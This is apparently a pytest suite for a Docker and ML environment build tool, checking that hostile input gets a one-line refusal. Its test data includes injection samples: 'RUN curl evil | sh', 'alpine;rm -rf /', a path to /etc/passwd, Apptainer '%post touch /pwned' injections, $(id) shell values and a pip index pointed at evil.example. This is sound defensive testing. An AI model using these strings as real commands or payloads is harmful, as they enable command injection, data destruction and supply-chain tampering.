"""Hostile and careless input: every command answers one line (plus a hint) and exit 2, writes
nothing it did not own, and lets nothing reach a Dockerfile, a shell line or a source file."""

import json
import os
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from conftest import ROOT
from envbuild import catalog, render
from envbuild.errors import BadInput
from envbuild.resolve import resolve


def envbuild(*args, env=None, cwd=None):
    return subprocess.run([sys.executable, "-m", "envbuild.cli", *map(str, args)], capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=120, cwd=cwd)


def one_clear_line(r, needle):
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert "Traceback" not in r.stderr
    lines = r.stderr.strip().splitlines()
    assert lines[0].startswith("error: ") and needle in lines[0], r.stderr
    assert any(line.startswith("hint: ") for line in lines[1:]), r.stderr


@pytest.mark.parametrize("args, needle", [
    (["resolve", "maptr", "--card", "h20", "--set", "nosuchpkg==1.0"], "maptr does not install nosuchpkg"),
    (["resolve", "maptr", "--card", "h20", "--set", "torchvision==0.15.2"], "torchvision pairs with torch"),
    (["resolve", "maptr", "--card", "h20", "--set", "mmcv-full==9.9.9"], "unknown mmcv-full version '9.9.9'"),
    (["resolve", "sparsedrive", "--card", "h20", "--set", "flash-attn==9.9.9"], "unknown flash-attn version"),
    (["resolve", "maptr", "--card", "h20", "--cuda", "11.8.99"], "--cuda '11.8.99'"),
    (["resolve", "maptr", "--card", "h20", "--cuda", "11.8.0.1"], "--cuda '11.8.0.1'"),
    (["resolve", "maptr", "--card", "h20", "--python", "3.8x"], "is not a Python version"),
    (["resolve", "maptr", "--card", "h20", "--python", "3.11.5.5"], "is not a Python version"),
    (["resolve", "maptr\nhint: forged", "--card", "h20"], "unknown model 'maptr\\nhint: forged'"),
])
def test_refused_input_is_one_line_and_a_hint(args, needle):
    one_clear_line(envbuild(*args), needle)


def test_a_forged_hint_line_cannot_appear():
    r = envbuild("resolve", "maptr\nhint: forged", "--card", "h20")
    assert not any(line == "hint: forged" for line in r.stderr.splitlines())


@pytest.mark.parametrize("cuda", ["11.8", "11.8.0"])
def test_the_catalogs_own_cuda_spellings_are_accepted(cat, cuda):
    assert resolve(cat, "maptr", "h20", cuda=cuda).cuda == "11.8.0"


def _edit(path, old, new):
    text = path.read_text()
    assert old in text, old
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize("file, old, new, says", [
    ("cards.toml", 'name = "NVIDIA GeForce RTX 4090"', 'name = "RTX 4090\\nRUN curl evil | sh"', "control characters"),
    ("models/maptr.toml", 'entry = "tools/train.py"', 'entry = "tools/../../etc/passwd"', "must stay inside the repository"),
    ("models/maptr.toml", 'title = "', 'title = "x\\u0007', "control characters"),
])
def test_catalog_values_that_would_inject_are_refused(matrices_copy, file, old, new, says):
    _edit(matrices_copy / file, old, new)
    r = envbuild("resolve", "maptr", "--card", "rtx4090", env={"ENVBUILD_MATRICES": str(matrices_copy)})
    assert r.returncode == 2 and says in r.stderr and "Traceback" not in r.stderr


def test_no_p2p_reason_is_one_comment_line_in_the_dockerfile(cat, tmp_path):
    plan = resolve(cat, "maptr", "rtx4090")
    text = render.dockerfile(render.make_context(plan, "envbuild render maptr --card rtx4090"))
    for line in text.splitlines():
        assert not line.startswith(("RUN curl", "RUN wget")), line
    assert "NCCL_P2P_DISABLE" in text
    # the reason is one comment line, whole, and nowhere else in the file
    why = plan.runtime_env["NCCL_P2P_DISABLE"]["why"]
    assert [line for line in text.splitlines() if line.startswith("# NCCL_P2P_DISABLE")] == [f"# NCCL_P2P_DISABLE=1: {why}"]
    assert sum(why in line for line in text.splitlines()) == 1


def test_ca_bundle_with_a_comma_is_refused(tmp_path):
    bundle = tmp_path / "a,src=evil.pem"
    bundle.write_text("x")
    r = envbuild("resolve", "maptr", "--card", "h20", env={"ENVBUILD_CA_BUNDLE": str(bundle)})
    # resolve does not use the CA; render/lock/image load the sources and refuse it
    r = envbuild("render", "maptr", "--card", "h20", "-o", tmp_path / "out", env={"ENVBUILD_CA_BUNDLE": str(bundle)})
    one_clear_line(r, "cannot be passed to BuildKit")
    assert not (tmp_path / "out").exists()


def test_a_malformed_config_file_is_one_line(tmp_path):
    cfg = tmp_path / "config.toml"
    for text, says in (("torch_index = [", "not valid TOML"), ('bogus = "x"', "unknown key 'bogus'"),
                       ('card = "a800\\nx"', "is not a card name")):
        cfg.write_text(text)
        one_clear_line(envbuild("resolve", "maptr", env={"ENVBUILD_CONFIG": str(cfg)}), says)
    cfg.write_bytes(b"\xff\xfe torch_index")
    r = envbuild("resolve", "maptr", env={"ENVBUILD_CONFIG": str(cfg)})
    assert r.returncode == 2 and "Traceback" not in r.stderr


def test_fix_on_an_empty_path_changes_nothing_here(tmp_path):
    (tmp_path / "train.py").write_text("p.add_argument('--local_rank')\n")
    r = envbuild("fix", "", cwd=tmp_path)
    assert r.returncode == 2 and (tmp_path / "train.py").read_text() == "p.add_argument('--local_rank')\n"


# ---------------------------------------------------------- properties over names and fixer inputs

@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(min_size=0, max_size=30))
def test_any_card_name_is_a_card_or_one_clean_bad_input(cat, name):
    try:
        resolve(cat, "qcnet", name)
    except BadInput as exc:
        assert exc.exit_code == 2 and exc.message
    except Exception as exc:  # noqa: BLE001
        if type(exc).__name__ != "Conflict":
            raise


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_any_set_value_is_a_pin_or_one_clean_bad_input(value):
    from envbuild.resolve import parse_overrides
    cat = catalog.load()
    try:
        resolve(cat, "maptr", "h20", overrides=parse_overrides([value]))
    except BadInput as exc:
        assert exc.message


@pytest.mark.filterwarnings("ignore::SyntaxWarning")  # generated code like "'a'(b)" compiles with a warning
@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(list("()[],'\"\\ \n\t#=abc:.") + ["'-std=c++14'", '"-std=c++11"', "\\\n", "x = ",
                                 "if torch.cuda.is_available():\n    pass\n", "p.add_argument('--local_rank')",
                                 "from numba.errors import E\n", '"""d"""\n']), max_size=25).map("".join))
def test_fixers_never_turn_compiling_python_into_broken_python(text):
    from envbuild import fixers
    for name in ("cxx-standard", "local-rank", "numba-errors", "setup-without-gpu"):
        fx = fixers.make(name)
        try:
            compile(text, "setup.py", "exec")
        except (SyntaxError, ValueError):
            continue
        new = fx.fix_text("setup.py", text)
        compile(new, "setup.py", "exec")  # the fixer's own output compiles (the guard is a second net)


@settings(max_examples=100, deadline=None)
@given(prefix=st.sampled_from(["", "import numba\n", '"""doc"""\n', "import numba.errors\n"]),
       names=st.lists(st.sampled_from(["TypingError", "NumbaWarning", "NumbaWarning as W"]), min_size=1, max_size=3,
                      unique=True),
       paren=st.booleans(), backslash=st.booleans(), use_attr=st.booleans())
def test_numba_fixer_output_compiles_for_any_import_form(prefix, names, paren, backslash, use_attr):
    from envbuild import fixers
    joined = ", ".join(names)
    stmt = (f"from numba.errors import ({joined},)\n" if paren else
            f"from numba.errors import \\\n    {joined}\n" if backslash else f"from numba.errors import {joined}\n")
    text = prefix + stmt + ("x = numba.errors.TypingError\n" if use_attr and "numba" in prefix else "")
    new = fixers.make("numba-errors").fix_text("a.py", text)
    compile(new, "a.py", "exec")
    for n in names:
        assert n.split(" as ")[-1] in new
    assert fixers.make("numba-errors").fix_text("a.py", new) == new


@pytest.mark.parametrize("args", [
    ["compare", "nope.json"], ["compare", "bad.json"], ["fix", "nope-dir"], ["fix", ".", "--plan", "bad.json"],
    ["fix", ".", "--only", "nosuch"], ["bake", "--parallel", "0", "-o", "bk/docker-bake.json"],
    ["smoke", "img", "--recipe", "x"], ["smoke", "img", "--gpus", "many"], ["export", "img", "--format", "zip"],
    ["load", "nope.tar.gz"], ["resolve", "maptr", "--card", "a800,nosuch"], ["render", "maptr", "--card", "h20", "-o", "bad.json"],
    ["matrix", "--models", "nosuch"], ["lock", "maptr", "--card", "h20", "--set", "x"],
])
def test_every_refusal_is_an_error_line_and_a_hint(tmp_path, args):
    (tmp_path / "bad.json").write_text("{not json")
    r = envbuild(*args, cwd=tmp_path)
    assert r.returncode == 2 and "Traceback" not in r.stderr, (args, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert lines[0].startswith("error: ") and lines[-1].startswith("hint: "), (args, r.stderr)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.json"]  # nothing written


# ---------------------------------------------------------------- a second sweep (101 fresh inputs, 29 not clean): each fixed

def _catalog_copy(tmp_path):
    import shutil
    dst = tmp_path / "matrices"
    shutil.copytree(ROOT / "envbuild" / "matrices", dst, ignore=shutil.ignore_patterns("verified"))
    return dst


@pytest.mark.parametrize("file, data", [
    ("models/maptr.toml", b"\xff\xfe[model]\n"),
    ("toolchains/cuda.toml", b"# \xe9t\xe9\n"),
    ("cards.toml", b"a = " + b"[" * 5000 + b"]" * 5000 + b"\n"),
])
def test_a_catalog_file_that_is_not_utf8_or_nested_too_deep_is_one_line(tmp_path, file, data):
    cat = _catalog_copy(tmp_path)
    (cat / file).write_bytes(data)
    one_clear_line(envbuild("resolve", "maptr", "--card", "h20", env={"ENVBUILD_MATRICES": str(cat)}), file.split("/")[-1])


def test_deeply_nested_config_plan_and_report_files_are_one_line(tmp_path):
    deep = tmp_path / "deep.toml"
    deep.write_text("pypi_index = " + "[" * 5000 + "]" * 5000 + "\n")
    one_clear_line(envbuild("resolve", "maptr", "--card", "h20", env={"ENVBUILD_CONFIG": str(deep)}), "deep.toml")
    (tmp_path / "tree").mkdir()
    (tmp_path / "deep.json").write_text("[" * 100000 + "]" * 100000)
    one_clear_line(envbuild("fix", tmp_path / "tree", "--plan", tmp_path / "deep.json"), "cannot use plan")
    for i, shape in enumerate(['{"levels": {"train": {"runs": 5}}}', '{"levels": []}',
                               '{"levels": {"train": {"runs": {"synthetic": {"status": "passed", "losses": "ab"}}}}}',
                               '{"environment": [], "levels": {"train": {"runs": {"synthetic": {"status": "passed", '
                               '"losses": [1.0], "samples_per_s": 1, "step_time_s": 1}}}}}', "[1, 2]"]):
        (tmp_path / f"r{i}.json").write_text(shape)
        one_clear_line(envbuild("compare", tmp_path / f"r{i}.json", "-o", tmp_path / "c.html"), f"r{i}.json")
    assert not (tmp_path / "c.html").exists()


def test_a_config_table_envbuild_does_not_know_is_refused(tmp_path):
    cfg = tmp_path / "config.toml"
    cfg.write_text('[sourcse]\ntorch_index = "none"\n')
    one_clear_line(envbuild("resolve", "maptr", "--card", "h20", env={"ENVBUILD_CONFIG": str(cfg)}), "unknown table [sourcse]")


@pytest.mark.parametrize("manifest", [b"{bad", b"[1, 2]", b"\xff\xfe", b'{"sha256": 5}'])
def test_load_with_a_malformed_manifest_is_one_line_and_loads_nothing(tmp_path, manifest):
    (tmp_path / "img.tar.gz").write_bytes(b"\x1f\x8b not really")
    (tmp_path / "img.tar.gz.json").write_bytes(manifest)
    one_clear_line(envbuild("load", tmp_path / "img.tar.gz", env={"ENVBUILD_DOCKER": "/usr/bin/false"}),
                   "not an envbuild export manifest")


def test_an_exit_1_message_cannot_forge_a_hint_line(tmp_path):
    name = "x\nhint: forged.tar.gz"
    (tmp_path / name).write_bytes(b"data")
    (tmp_path / (name + ".json")).write_text(json.dumps({"sha256": "0" * 64}))
    r = envbuild("load", tmp_path / name, env={"ENVBUILD_DOCKER": "/usr/bin/false"})
    assert r.returncode == 1 and "checksum mismatch" in r.stderr
    assert not [line for line in r.stderr.splitlines() if line.startswith("hint: forged")], r.stderr


@pytest.mark.parametrize("record", ['{"request": [], "digest": "x", "verdict": "passed", "levels": {}, "date": "d"}', None])
def test_a_malformed_ledger_record_in_a_user_catalog_is_one_line(tmp_path, record):
    cat = tmp_path / "mine"
    (cat / "verified").mkdir(parents=True)
    if record is None:
        (cat / "verified" / "zz.json").mkdir()  # a folder where a record should be
    else:
        (cat / "verified" / "zz.json").write_text(record)
    for args in (["resolve", "qcnet", "--card", "a800"], ["matrix", "--models", "qcnet", "--cards", "a800"]):
        one_clear_line(envbuild(*args, env={"ENVBUILD_MATRICES": str(cat)}), "zz.json")


@pytest.mark.parametrize("args", [
    ["render", "maptr", "--card", "h20", "-o", ""], ["render", "maptr", "--card", "h20", "--source", "", "-o", "out"],
    ["load", ""], ["fix", ".", "--plan", ""], ["compare", "r.json", "-o", ""],
    ["render", "maptr", "--card", "h20", "-o", "x" * 300],
    ["fix", ".", "--only", ""], ["fix", ".", "--mmcv", "１.７.２"], ["fix", ".", "--mmcv", "١.٧.٢"],
    ["bake", "--models", "qcnet", "--cards", "a800", "--builder-memory", "1" + "0" * 30, "-o", "bk/docker-bake.json"],
])
def test_empty_paths_odd_names_and_values_change_nothing(tmp_path, args):
    """Each was accepted (an empty path became '.', the whole folder copied or written into) or
    ended in a traceback; now one line, exit 2, and the folder as it was."""
    (tmp_path / "setup.py").write_text("import os\n")
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    r = envbuild(*args, cwd=tmp_path, env={"ENVBUILD_HOME": str(tmp_path.parent / "home")})
    assert r.returncode == 2 and "Traceback" not in r.stderr, (args, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert lines[0].startswith("error: ") and lines[-1].startswith("hint: "), (args, r.stderr)
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before


def test_envbuild_home_that_is_a_file_is_one_line(tmp_path):
    (tmp_path / "home").write_text("")
    one_clear_line(envbuild("render", "maptr", "--card", "h20", env={"ENVBUILD_HOME": str(tmp_path / "home")}),
                   "ENVBUILD_HOME")


def test_bake_into_a_folder_or_a_users_file_writes_no_context(tmp_path):
    (tmp_path / "mine.json").write_text('{"mine": true}\n')
    (tmp_path / "adir").mkdir()
    for out in ("mine.json", "adir"):
        r = envbuild("bake", "--models", "qcnet", "--cards", "a800", "-o", out, cwd=tmp_path)
        one_clear_line(r, out)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["adir", "mine.json"] and not list((tmp_path / "adir").iterdir())
    assert (tmp_path / "mine.json").read_text() == '{"mine": true}\n'


def test_a_link_put_where_the_source_copy_was_is_refused_and_its_target_kept(tmp_path):
    src, out, theirs = tmp_path / "src", tmp_path / "ctx", tmp_path / "theirs"
    src.mkdir()
    (src / "train.py").write_text("print('hi')\n")
    theirs.mkdir()
    (theirs / "keep.txt").write_text("mine\n")
    assert envbuild("render", "maptr", "--card", "h20", "--source", src, "-o", out).returncode == 0
    import shutil
    shutil.rmtree(out / "src")
    (out / "src").symlink_to(theirs)
    one_clear_line(envbuild("render", "maptr", "--card", "h20", "--source", src, "-o", out), "not the source copy")
    assert (theirs / "keep.txt").read_text() == "mine\n"


# ---------------------------------------------------------------- issue 23: waits, files, overwrites, escapes

import shutil
import socket
import threading
import time

def _build_cli():
    """A docker CLI that can drive BuildKit (its version does not need the daemon), or None."""
    for path in dict.fromkeys(p for p in ("/usr/bin/docker", shutil.which("docker")) if p and os.path.exists(p)):
        r = subprocess.run([path, "--version"], capture_output=True, text=True)
        major = r.stdout.split("version ")[-1].split(".")[0]
        if major.isdigit() and int(major) < 23:  # BuildKit built in: no plugin to ask
            return path
        r = subprocess.run([path, "buildx", "version"], capture_output=True, text=True, timeout=30)
        if r.returncode == 0:
            return path
    return None


DOCKER_CLI = _build_cli()


@pytest.fixture
def half_alive(tmp_path):
    """A fake Docker daemon on a Unix socket: it answers /_ping and /version, and never answers
    anything else (the connection stays open). Yields its DOCKER_HOST environment, with short bounds."""
    path = str(tmp_path / "d.sock")
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(64)
    held, stop = [], threading.Event()

    def serve(conn):
        buf = b""
        while not stop.is_set():
            try:
                data = conn.recv(65536)
            except OSError:
                return
            if not data:
                return
            buf += data
            while b"\r\n\r\n" in buf:
                head, _, buf = buf.partition(b"\r\n\r\n")
                line = head.split(b"\r\n")[0]
                if b"/_ping " in line:
                    body = b"" if line.startswith(b"HEAD") else b"OK"
                    conn.sendall(b"HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nContent-Type: text/plain\r\n"
                                 b"Content-Length: 2\r\n\r\n" + body)
                elif b"/version " in line:
                    body = b'{"ApiVersion":"1.41","Version":"20.10.24","MinAPIVersion":"1.12"}'
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
                                 % len(body) + body)
                else:
                    held.append(conn)  # stalls: never answers
                    return

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                return
            threading.Thread(target=serve, args=(conn,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    yield {"DOCKER_HOST": f"unix://{path}", "ENVBUILD_ENGINE_TIMEOUT": "2", "ENVBUILD_ENGINE_STREAM_TIMEOUT": "3",
           "ENVBUILD_HOME": str(tmp_path / "home"), **({"ENVBUILD_DOCKER": DOCKER_CLI} if DOCKER_CLI else {})}
    stop.set()
    server.close()
    for conn in held:
        conn.close()


def _names_the_daemon(r, started, bound=40):
    assert time.monotonic() - started < bound, "waited past its bound"
    assert r.returncode == 1, (r.stdout, r.stderr)
    assert "Traceback" not in r.stderr and "ReadTimeout" not in r.stderr
    assert "did not answer" in r.stderr and "d.sock" in r.stderr, r.stderr
    assert "hint: " in r.stderr and "buildx" not in r.stderr


@pytest.mark.parametrize("args", [["images"], ["push", "localhost:5000/team/x:1"], ["export", "alpine:3"],
                                  ["smoke", "alpine:3", "--gpus", "none"], ["audit", "alpine:3", "--card", "h20"]])
def test_a_half_alive_daemon_is_named_within_the_bound(half_alive, tmp_path, args):
    started = time.monotonic()
    r = envbuild(*args, env=half_alive, cwd=tmp_path)
    _names_the_daemon(r, started)


def test_doctor_on_a_half_alive_daemon_fails_fast_and_names_it(half_alive):
    started = time.monotonic()
    r = envbuild("doctor", env=half_alive)
    assert time.monotonic() - started < 40 and r.returncode == 1 and "Traceback" not in r.stderr
    assert "did not answer" in r.stdout


@pytest.mark.skipif(DOCKER_CLI is None, reason="needs a docker CLI (no engine: the daemon is a fake)")
@pytest.mark.parametrize("args", [["image", "maptr", "--card", "h20", "--no-lock"], ["lock", "maptr", "--card", "h20"]])
def test_builds_and_locks_on_a_half_alive_daemon_stop_and_name_it(half_alive, tmp_path, args):
    started = time.monotonic()
    r = envbuild(*args, "--base-image", "nvidia/cuda:11.8.0-cudnn8-devel-ubuntu20.04", env=half_alive)
    _names_the_daemon(r, started, bound=60)


def test_a_hung_socket_is_a_wedged_daemon_not_a_missing_plugin(tmp_path):
    path = str(tmp_path / "hung.sock")
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(64)  # accepts (the kernel does), never answers
    try:
        started = time.monotonic()
        r = envbuild("image", "maptr", "--card", "h20", env={"DOCKER_HOST": f"unix://{path}", "ENVBUILD_ENGINE_TIMEOUT": "2"})
        assert time.monotonic() - started < 30
        assert r.returncode == 1 and "wedged" in r.stderr and "buildx" not in r.stderr, r.stderr
    finally:
        server.close()


def test_engine_bounds_and_cli_are_checked(monkeypatch):
    from envbuild import engine
    monkeypatch.setenv("ENVBUILD_ENGINE_TIMEOUT", "soon")
    with pytest.raises(BadInput, match="ENVBUILD_ENGINE_TIMEOUT"):
        engine.engine_timeout()
    monkeypatch.setenv("ENVBUILD_DOCKER", "/nope")
    with pytest.raises(BadInput, match="ENVBUILD_DOCKER=/nope"):  # named, never silently replaced
        engine._candidates()


def test_a_container_past_its_limit_is_stopped_and_named(monkeypatch):
    import requests
    from envbuild import engine
    from envbuild.errors import OperationFailed

    removed = []

    class Container:
        def start(self):
            pass

        def wait(self, timeout):
            raise requests.exceptions.ConnectionError("UnixHTTPConnectionPool: Read timed out. (read timeout=5)")

        def remove(self, force):
            removed.append(force)

    class Client:
        class containers:
            @staticmethod
            def create(*a, **k):
                return Container()

    monkeypatch.setattr(engine, "client", lambda stream=False: Client())
    with pytest.raises(OperationFailed) as exc:
        engine.run_container("img", ["true"], timeout=5, what="the smoke container of img",
                             limit_hint="give it longer with envbuild smoke --timeout SECONDS")
    assert "did not finish in 5 s" in exc.value.message and "--timeout" in exc.value.hint and removed


def test_smoke_and_audit_say_their_limit_in_help():
    for cmd, default in (("smoke", "3600"), ("audit", "1800")):
        r = envbuild(cmd, "--help", env={"COLUMNS": "200"})
        assert "--timeout" in r.stdout and f"default {default}" in r.stdout


NO_DAEMON = {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}


@pytest.mark.parametrize("args, needle", [
    (["image", "maptr", "--card", "h20", "--tag", "BAD TAG!"], "not a valid image reference"),
    (["smoke", "alpine;rm -rf /"], "not a valid image reference"),
    (["export", "alpine;rm -rf /"], "not a valid image reference"),
    (["push", "a" * 100000], "not a valid image reference"),
    (["smoke", "alpine:3", "--level", ",,,"], "names no level"),
])
def test_bad_input_is_said_before_the_engine_is_asked(args, needle):
    r = envbuild(*args, env=NO_DAEMON)
    assert r.returncode == 2 and needle in r.stderr and len(r.stderr) < 2000, r.stderr
    assert "Traceback" not in r.stderr and "daemon" not in r.stderr.split("\n")[0]


def _fifo(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    return fifo


@pytest.mark.parametrize("special", ["/dev/zero", "fifo", "folder", "loop"])
@pytest.mark.parametrize("command", ["compare", "fix --plan", "load"])
def test_special_files_are_refused_not_read(tmp_path, special, command):
    path = {"/dev/zero": "/dev/zero", "fifo": str(_fifo(tmp_path)) if special == "fifo" else "",
            "folder": str(tmp_path), "loop": str(tmp_path / "loop")}[special]
    if special == "loop":
        os.symlink("loop", tmp_path / "loop")
    args = {"compare": ["compare", path, "-o", tmp_path / "c.html"], "fix --plan": ["fix", tmp_path, "--plan", path],
            "load": ["load", path]}[command]
    if command == "load" and special != "loop":  # load reads the manifest beside the archive
        (tmp_path / "a.tar.gz").write_bytes(b"x")
        target = tmp_path / "a.tar.gz.json"
        if special == "fifo":
            (tmp_path / "fifo").rename(target)
        elif special == "/dev/zero":
            target.symlink_to("/dev/zero")
        else:
            target.mkdir()
        args = ["load", tmp_path / "a.tar.gz"]
    started = time.monotonic()
    r = envbuild(*args, env=NO_DAEMON)
    assert time.monotonic() - started < 30
    assert r.returncode == 2 and "Traceback" not in r.stderr and "hint: " in r.stderr, r.stderr


@pytest.mark.parametrize("kind", ["fifo", "socket", "loop"])
def test_a_source_tree_that_cannot_be_copied_writes_no_context(tmp_path, kind):
    src = tmp_path / "src"
    src.mkdir()
    (src / "a.py").write_text("x = 1\n")
    if kind == "fifo":
        os.mkfifo(src / "pipe")
    elif kind == "socket":
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(src / "sock"))
    else:
        os.symlink("loop", src / "loop")
    out = tmp_path / "out"
    started = time.monotonic()
    r = envbuild("render", "maptr", "--card", "h20", "--source", src, "-o", out)
    assert time.monotonic() - started < 60
    assert r.returncode == 2 and "Traceback" not in r.stderr and "hint: " in r.stderr, r.stderr
    assert not (out / "Dockerfile").exists()


def test_bake_into_a_link_loop_is_one_line(tmp_path):
    os.symlink("loop", tmp_path / "loop")
    for out in (tmp_path / "loop", tmp_path / "loop" / "bake.json"):
        r = envbuild("bake", "--models", "maptr", "--cards", "h20", "-o", out)
        assert r.returncode == 2 and "loops" in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert os.readlink(tmp_path / "loop") == "loop"


def test_smoke_report_never_replaces_a_users_file(tmp_path):
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes\n")
    r = envbuild("smoke", "alpine:3", "--report", notes, env=NO_DAEMON)
    assert r.returncode == 2 and "envbuild did not write it" in r.stderr and notes.read_text() == "my notes\n"
    from envbuild import smoke
    assert smoke.is_report(json.dumps({"levels": {}, "image": "x", "image_id": "y", "host": {}}))
    assert not smoke.is_report("my notes") and not smoke.is_report("[1]")


def _report(tmp_path, name, losses):
    data = {"card": "h20", "ok": True, "levels": {"train": {"status": "passed", "runs": {"synthetic": {
        "status": "passed", "losses": losses, "samples_per_s": 10.0, "step_time_s": 0.1, "device": "cpu",
        "first_loss": 1.0, "last_loss": 0.5, "data_wait_share": 0.1}}}}}
    path = tmp_path / name
    path.write_text(json.dumps(data))
    return path


def test_compare_refuses_a_users_page_and_nan_losses(tmp_path):
    a, b = _report(tmp_path, "a.json", [1.0, 0.5]), _report(tmp_path, "b.json", [1.0, 0.6])
    page = tmp_path / "page.html"
    page.write_text('<html><meta name="generator" content="envbuild compare"> my own page</html>')
    r = envbuild("compare", a, b, "-o", page)
    assert r.returncode == 2 and "envbuild did not write it" in r.stderr and "my own page" in page.read_text()
    assert envbuild("compare", a, b, "-o", page, "--force").returncode == 0
    assert envbuild("compare", a, b, "-o", page).returncode == 0  # its own page: replaced
    nan = _report(tmp_path, "nan.json", [1.0, float("nan")])
    r = envbuild("compare", a, nan, "-o", tmp_path / "n.html")
    assert r.returncode == 2 and "finite" in r.stderr and not (tmp_path / "n.html").exists()


class _Image:
    def __init__(self, env=(), labels=None):
        self.attrs = {"Config": {"Env": list(env)}}
        self.labels = labels or {}
        self.id, self.tags = "sha256:" + "0" * 64, ["envbuild/x:1"]


def test_export_names_files_apart_and_keeps_a_users_sidecars(tmp_path):
    from envbuild import export
    assert export._safe_name("a/b:c") != export._safe_name("a_b:c")
    name = export._safe_name("envbuild/x:1")
    (tmp_path / f"{name}.tar.gz.json").write_text('{"mine": true}\n')
    with pytest.raises(BadInput, match="not envbuild's export"):
        export.check_outputs([tmp_path / f"{name}.tar.gz", tmp_path / f"{name}.tar.gz.json"], "envbuild/x:1", False)
    export.check_outputs([tmp_path / f"{name}.tar.gz.json"], "envbuild/x:1", True)  # --force
    (tmp_path / f"{name}.tar.gz.json").write_text(json.dumps({"image": "envbuild/x:1", "sha256": "ab", "file": "f"}))
    (tmp_path / f"{name}.tar.gz.sha256").write_text("ab  f\n")
    export.check_outputs([tmp_path / f"{name}.tar.gz.json", tmp_path / f"{name}.tar.gz.sha256"], "envbuild/x:1", False)
    with pytest.raises(BadInput):  # another image's export under this name is not replaced
        export.check_outputs([tmp_path / f"{name}.tar.gz.json"], "envbuild/y:1", False)


@pytest.mark.parametrize("env, labels", [
    (["A=x\n%post\ntouch /pwned"], {}),
    ([], {"io.envbuild.model": "maptr\n%post\ntouch /pwned"}),
    ([], {"io.envbuild.model\n%post": "x"}),
])
def test_apptainer_definition_refuses_values_that_would_start_a_section(monkeypatch, env, labels):
    from envbuild import export
    monkeypatch.setattr(export, "local_image", lambda ref, stream=False: _Image(env, labels))
    with pytest.raises(BadInput, match="Apptainer|plain name"):
        export.apptainer_def("envbuild/x:1", "x.tar.gz")


def test_apptainer_definition_quotes_shell_values(monkeypatch):
    from envbuild import export
    monkeypatch.setattr(export, "local_image", lambda ref, stream=False: _Image(
        ["A=`touch /pwned` $(id) \"q\" 'single'"], {"io.envbuild.model": "maptr `id`"}))
    text = export.apptainer_def("envbuild/x:1", "x.tar.gz")
    line = next(l for l in text.splitlines() if "export A=" in l)
    import shlex
    assert shlex.split(line.split("=", 1)[1]) == ["`touch /pwned` $(id) \"q\" 'single'"]
    assert line.split("=", 1)[1].startswith("'")  # single quotes: nothing in it runs
    assert not any(l.startswith("%post") for l in text.splitlines())


ESC = "\x1b]0;title\x07\x1b[2J"


def test_labels_manifests_and_reports_print_escaped(capsys):
    from envbuild import show
    show.images([{"id": "abc", "tags": [f"x:{ESC}"], "model": ESC, "card": "h20", "mode": "m", "torch": "2",
                  "cuda": "12", "arch_list": "9.0", "size_bytes": 1}])
    show.loaded({"loaded": [ESC], "tags": [ESC], "sha256": "0"})
    show.smoke({"image": ESC, "environment": {"gpus": [ESC]}, "levels": {"env": {"status": "passed", "reason": ESC,
                                                                          "problems": [ESC]}}})
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "\\x1b]0;title\\x07" in out


def test_malformed_smoke_and_audit_reports_are_one_failure(monkeypatch):
    from envbuild import audit, engine, smoke
    from envbuild.errors import OperationFailed
    for out in ('{"levels": {"env": 1}, "ok": true}', '{"ok": "yes"}', "[1, 2]", '{"levels": [], "ok": true}'):
        with pytest.raises(OperationFailed, match="no report|cannot read"):
            smoke._report("img", 0, out, "")

    class Images:
        @staticmethod
        def get(ref):
            return None

    monkeypatch.setattr(engine, "client", lambda stream=False: type("C", (), {"images": Images})())
    for out in ('{"libraries": 5}', '[1]', '{"libraries": [{"path": 1}]}', '{"libraries": [{"path": "x", "sass": "sm_80"}]}'):
        monkeypatch.setattr(engine, "run_container", lambda *a, _out=out, **k: (0, _out, ""))
        with pytest.raises(OperationFailed, match="no report|cannot read"):
            audit.scan("img")


@pytest.mark.parametrize("file, old, new, says", [
    ("models/maptr.toml", 'era = "2023-09-14"', 'era = "2023-13-45"', "not a date"),
    ("models/maptr.toml", 'era = "2023-09-14"', 'era = "2023-09-14"\nera_grace_days = 99999999999', "out of range"),
    ("cards.toml", "memory_gb = 96", "memory_gb = -5", "out of range"),
    ("models/gaussianformer.toml", 'build = "pip install --no-build-isolation -e ."',
     'build = "pip install --index-url=http://evil.example/simple -e ."', "another package source"),
])
def test_catalog_values_out_of_range_are_one_line(tmp_path, file, old, new, says):
    cat = _catalog_copy(tmp_path)
    text = (cat / file).read_text()
    assert old in text, old
    (cat / file).write_text(text.replace(old, new, 1))
    model = "gaussianformer" if "gaussianformer" in file else "maptr"
    one_clear_line(envbuild("resolve", model, "--card", "h20", env={"ENVBUILD_MATRICES": str(cat)}), says)


def test_a_user_catalog_whose_cards_toml_is_a_folder_is_refused(tmp_path):
    cat = _catalog_copy(tmp_path)
    (cat / "cards.toml").unlink()
    (cat / "cards.toml").mkdir()
    one_clear_line(envbuild("resolve", "maptr", "--card", "h20", env={"ENVBUILD_MATRICES": str(cat)}), "cards.toml")


